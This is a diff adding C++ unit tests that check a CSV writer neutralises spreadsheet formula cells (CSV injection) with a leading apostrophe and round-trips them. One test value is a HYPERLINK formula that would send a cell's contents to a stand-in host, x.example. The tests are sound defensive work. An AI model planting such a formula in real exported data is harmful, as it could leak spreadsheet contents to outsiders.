@@ -87,5 +87,49 @@ TEST(CsvTest, WhatTheWriterWritesTheReaderReadsBack) {
   EXPECT_EQ(table->records[0].fields, fields);
 }
 
+// Cells a spreadsheet would run (OWASP, CSV injection) and what is written for each.
+struct HostileCell {
+  std::string value, written;
+};
+
+TEST(CsvTest, CellsASpreadsheetWouldRunGetALeadingApostropheAndNumbersStayNumbers) {
+  const std::vector<HostileCell> cells = {
+      {"=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm\"\")\""},
+      {"+84 912 345 678", "'+84 912 345 678"},
+      {"+84912345678", "'+84912345678"},
+      {"-1+2", "'-1+2"},
+      {"@SUM(A1)", "'@SUM(A1)"},
+      {"\tPhường A", "'\tPhường A"},
+      {"\r=1", "\"'\r=1\""},
+      {"-", "'-"},
+      {"'=1", "''=1"},  // an apostrophe already there is kept: the value reads back whole
+      {"-3.5", "-3.5"},
+      {"12", "12"},
+      {"0.875", "0.875"},
+      {"Nguyễn Văn A", "Nguyễn Văn A"},
+      {"a=b", "a=b"},
+      {"'quoted'", "'quoted'"},
+      {"", ""},
+  };
+  for (const HostileCell& c : cells) {
+    std::ostringstream out;
+    WriteCsvRecord(out, {c.value});
+    EXPECT_EQ(out.str(), c.written + "\r\n") << c.value;
+  }
+}
+
+TEST(CsvTest, ANeutralisedCellReadsBackAsTheValueItWasWrittenFrom) {
+  const std::vector<std::string> fields = {"=1+1", "+84 912 345 678", "-1+2", "@SUM(A1)",
+                                           "\tx",  "'=1",             "''@a", "'x",
+                                           "-3.5",  "'-3.5",           "-",    "plain"};
+  std::ostringstream out;
+  WriteCsvRecord(out, fields);
+  WriteCsvRecord(out, fields);
+  const auto table = ParseCsv(out.str(), "round.csv");
+  ASSERT_TRUE(table.ok()) << table.status().message();
+  EXPECT_EQ(table->records[0].fields, fields);
+  for (const std::string& f : fields) EXPECT_EQ(FromSpreadsheetSafeCell(SpreadsheetSafeCell(f)), f);
+}
+
 }  // namespace
 }  // namespace phieu
